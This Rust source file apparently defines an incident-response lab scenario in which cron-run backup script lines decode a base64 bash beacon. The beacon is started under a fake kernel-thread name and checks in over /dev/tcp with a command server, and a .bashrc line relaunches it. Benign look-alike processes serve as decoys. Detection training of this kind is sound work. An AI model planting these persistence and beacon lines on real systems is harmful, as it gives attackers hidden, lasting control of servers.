//! A legitimate backup script that cron runs, with lines appended by the
//! attacker (naming the payload through a variable) that drop a beacon into a hidden folder and start it under a
//! kernel-thread name; one line added to root's .bashrc relaunches it.
//! Next to the script's own lines, the cron.d file calling it, other
//! cron.d files, the admin's aliases, a WAL shipper pushing to the NAS and
//! an admin script whose name looks like the masquerade.

use super::{Entry, Innocent, Malicious, Proc, Scenario, Step, INIT};
use crate::host::lab::topology::{Host, Segment};

pub(super) static SCENARIO: Scenario = Scenario {
    name: "trojaned-script",
    summary: "three lines appended to the cron-run /usr/local/bin/db-backup.sh drop /var/tmp/.X11-unix-cache/xsessiond and start it as [kworker/u8:1], beaconing to 198.18.120.14:443; a line in root's .bashrc relaunches it",
    story: "On the database server db (10.63.0.25), /etc/cron.d/db-backup runs \
            /usr/local/bin/db-backup.sh every night. The attacker appended three lines to the \
            script: one sets d=/var/tmp/.X11-unix-cache, one decodes a base64 payload into \
            $d/xsessiond, the last starts it detached with argv[0] rewritten to [kworker/u8:1]. The payload \
            checks in with 198.18.120.14:443 every 3 s (the address only in base64 in the \
            script). One line appended to /root/.bashrc relaunches it when it is not running. \
            The script's own lines, the cron.d files, the admin's aliases, the WAL shipper \
            (/usr/local/sbin/wal-ship.sh, pushing to the NAS 10.63.0.50:873 every 3 s) and \
            /usr/local/sbin/kworker-stats.sh are legitimate.",
    compromised: "db",
    victim: "198.18.120.14",
    victim_port: 443,
    services: &["10.63.0.25:22", "10.63.0.25:80", "10.63.0.25:3306"],
    malicious: Malicious {
        processes: &[Proc {
            what: "the beacon, started as [kworker/u8:1]",
            pattern: TS_PAYLOAD,
        }],
        files: &[TS_PAYLOAD],
        persistence: &[
            Entry {
                what: "the line appended to the backup script that names the hidden folder",
                path: TS_SCRIPT,
                line: Some(TS_DIR_LINE),
            },
            Entry {
                what: "the line appended to the backup script that drops the payload",
                path: TS_SCRIPT,
                line: Some(TS_DROP_LINE),
            },
            Entry {
                what: "the line appended to the backup script that starts it",
                path: TS_SCRIPT,
                line: Some(TS_START_LINE),
            },
            Entry {
                what: "the line appended to root's .bashrc that relaunches it",
                path: "/root/.bashrc",
                line: Some(TS_BASHRC_LINE),
            },
        ],
        approval: &[],
    },
    innocent: Innocent {
        processes: &[
            INIT,
            Proc {
                what: "sshd, the web server and MariaDB",
                pattern: "lab serve --role server",
            },
            Proc {
                what: "the WAL shipper",
                pattern: "/usr/local/sbin/wal-ship.sh",
            },
            Proc {
                what: "the admin's kworker statistics sampler",
                pattern: "/usr/local/sbin/kworker-stats.sh",
            },
        ],
        files: &[
            "/etc/cron.d/db-backup",
            "/etc/cron.d/app-logrotate",
            "/etc/cron.d/wal-ship-check",
            "/usr/local/sbin/wal-ship.sh",
            "/usr/local/sbin/kworker-stats.sh",
            "/etc/default/wal-ship",
        ],
        flows: &["10.63.0.50:873"],
    },
    segments: &[
        Segment {
            name: "lan",
            router_addr: "10.63.0.1/24",
            router_mac: "52:54:00:3f:00:01",
        },
        Segment {
            name: "internet",
            router_addr: "198.18.120.1/24",
            router_mac: "52:54:00:c6:78:01",
        },
    ],
    hosts: &[
        Host {
            name: "analyst",
            segment: Some("lan"),
            addr: "10.63.0.100/24",
            mac: "52:54:00:3f:00:64",
            serve: None,
            what: "the responder's seat",
        },
        Host {
            name: "db",
            segment: Some("lan"),
            addr: "10.63.0.25/24",
            mac: "52:54:00:3f:00:19",
            serve: Some("server"),
            what: "database server: ssh 22, http 80, mysql 3306, the WAL shipper; runs the beacon",
        },
        Host {
            name: "nas",
            segment: Some("lan"),
            addr: "10.63.0.50/24",
            mac: "52:54:00:3f:00:32",
            serve: Some("nas"),
            what: "the NAS (rsync 873), logs each push in /var/log/rsyncd.log",
        },
        Host {
            name: "c2",
            segment: Some("internet"),
            addr: "198.18.120.14/24",
            mac: "52:54:00:c6:78:0e",
            serve: Some("c2"),
            what: "the attacker's command server (443): answers each check-in",
        },
    ],
    steps: &[
        Step::Write {
            path: "/etc/cron.d/db-backup",
            content: "# nightly database dump (ops ticket OPS-1182)\nSHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n30 2 * * * root /usr/local/bin/db-backup.sh >/dev/null 2>&1\n",
            mode: 0o644,
            owner: "root:root",
        },
        Step::Write {
            path: "/etc/cron.d/app-logrotate",
            content: "15 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf >/dev/null 2>&1\n",
            mode: 0o644,
            owner: "root:root",
        },
        Step::Write {
            path: "/etc/cron.d/wal-ship-check",
            content: "*/5 * * * * root pgrep -f /usr/local/sbin/wal-ship.sh >/dev/null || /usr/local/sbin/wal-ship.sh &\n",
            mode: 0o644,
            owner: "root:root",
        },
        Step::Write {
            path: TS_SCRIPT,
            content: TS_SCRIPT_TEXT,
            mode: 0o755,
            owner: "root:root",
        },
        // What the attacker added, after the script's own last line.
        Step::Append {
            path: TS_SCRIPT,
            content: concat!(
                "d=/var/tmp/.X11-unix-cache\n",
                "[ -x $d/xsessiond ] || { mkdir -p $d; echo IyEvYmluL2Jhc2gKIyBYMTEgc2Vzc2lvbiBjYWNoZQp3aGlsZSA6OyBkbwogICAgaWYgZXhlYyAzPD4vZGV2L3RjcC8xOTguMTguMTIwLjE0LzQ0MzsgdGhlbgogICAgICAgIHByaW50ZiAnSEVMTyAlc1xuJyAiJChjYXQgL3Byb2Mvc3lzL2tlcm5lbC9ob3N0bmFtZSkiID4mMwogICAgICAgIHJlYWQgLXIgLXQgMyAtdSAzIF8KICAgICAgICBleGVjIDM+Ji0KICAgIGZpCiAgICBzbGVlcCAzCmRvbmUK | base64 -d > $d/xsessiond; chmod 755 $d/xsessiond; }\n",
                "pgrep -f .X11-unix-cache/xsessiond >/dev/null || (cd / && exec -a '[kworker/u8:1]' /bin/bash $d/xsessiond </dev/null >/dev/null 2>&1 &)\n",
            ),
        },
        Step::Write {
            path: "/root/.bashrc",
            content: TS_BASHRC,
            mode: 0o644,
            owner: "root:root",
        },
        Step::Append {
            path: "/root/.bashrc",
            content: "pgrep -f .X11-unix-cache/xsessiond >/dev/null 2>&1 || (cd / && exec -a '[kworker/u8:1]' /bin/bash /var/tmp/.X11-unix-cache/xsessiond </dev/null >/dev/null 2>&1 &)\n",
        },
        Step::Write {
            path: "/etc/default/wal-ship",
            content: "# where wal-ship.sh sends the write-ahead log\nNAS=10.63.0.50\nNAS_PORT=873\nINTERVAL=3\n",
            mode: 0o644,
            owner: "root:root",
        },
        Step::Write {
            path: "/usr/local/sbin/wal-ship.sh",
            content: TS_WAL_SHIP,
            mode: 0o755,
            owner: "root:root",
        },
        Step::Write {
            path: "/usr/local/sbin/kworker-stats.sh",
            content: "#!/bin/bash\n# samples how many kworker threads run, for the capacity dashboard\nwhile true; do\n    ls /proc | grep -c '^[0-9]' > /var/tmp/kworker-stats.count 2>/dev/null\n    sleep 5\ndone\n",
            mode: 0o755,
            owner: "root:root",
        },
        Step::Start {
            argv: &["/bin/bash", "/usr/local/sbin/wal-ship.sh"],
            user: None,
        },
        Step::Start {
            argv: &["/bin/bash", "/usr/local/sbin/kworker-stats.sh"],
            user: None,
        },
        // Last night's cron run of the trojaned script.
        Step::Run(&["/bin/sh", "-c", "cd / && /usr/local/bin/db-backup.sh"]),
        Step::WaitProc(TS_PAYLOAD),
    ],
};

const TS_SCRIPT: &str = "/usr/local/bin/db-backup.sh";
const TS_PAYLOAD: &str = "/var/tmp/.X11-unix-cache/xsessiond";
const TS_DIR_LINE: &str = "d=/var/tmp/.X11-unix-cache";
const TS_DROP_LINE: &str = "[ -x $d/xsessiond ] || { mkdir -p $d; echo IyEvYmluL2Jhc2gKIyBYMTEgc2Vzc2lvbiBjYWNoZQp3aGlsZSA6OyBkbwogICAgaWYgZXhlYyAzPD4vZGV2L3RjcC8xOTguMTguMTIwLjE0LzQ0MzsgdGhlbgogICAgICAgIHByaW50ZiAnSEVMTyAlc1xuJyAiJChjYXQgL3Byb2Mvc3lzL2tlcm5lbC9ob3N0bmFtZSkiID4mMwogICAgICAgIHJlYWQgLXIgLXQgMyAtdSAzIF8KICAgICAgICBleGVjIDM+Ji0KICAgIGZpCiAgICBzbGVlcCAzCmRvbmUK | base64 -d > $d/xsessiond; chmod 755 $d/xsessiond; }";
const TS_START_LINE: &str = "pgrep -f .X11-unix-cache/xsessiond >/dev/null || (cd / && exec -a '[kworker/u8:1]' /bin/bash $d/xsessiond </dev/null >/dev/null 2>&1 &)";
const TS_BASHRC_LINE: &str = "pgrep -f .X11-unix-cache/xsessiond >/dev/null 2>&1 || (cd / && exec -a '[kworker/u8:1]' /bin/bash /var/tmp/.X11-unix-cache/xsessiond </dev/null >/dev/null 2>&1 &)";
const TS_SCRIPT_TEXT: &str = r#"#!/bin/bash
# db-backup: nightly dump of the application database, 14 days kept.
# Run by /etc/cron.d/db-backup. Owner: ops.
set -e
BACKUP_DIR=/var/backups/db
mkdir -p "$BACKUP_DIR"
stamp=$(date +%Y%m%d-%H%M)
printf -- '-- app dump %s\n' "$stamp" | gzip > "$BACKUP_DIR/app-$stamp.sql.gz"
find "$BACKUP_DIR" -name 'app-*.sql.gz' -mtime +14 -delete
"#;
const TS_BASHRC: &str = r#"# ~/.bashrc: executed by bash(1) for non-login shells.
[ -z "$PS1" ] && return
export HISTCONTROL=ignoreboth
alias ll='ls -alF'
alias dbsh='mysql --defaults-file=/root/.my.cnf app'
alias backups='ls -lt /var/backups/db | head'
"#;
const TS_WAL_SHIP: &str = r#"#!/bin/bash
# wal-ship: sends the database's write-ahead log to the NAS every few seconds.
. /etc/default/wal-ship
while true; do
    ls -l /var/backups/db 2>/dev/null > "/dev/tcp/$NAS/$NAS_PORT"
    sleep "$INTERVAL"
done
"#;
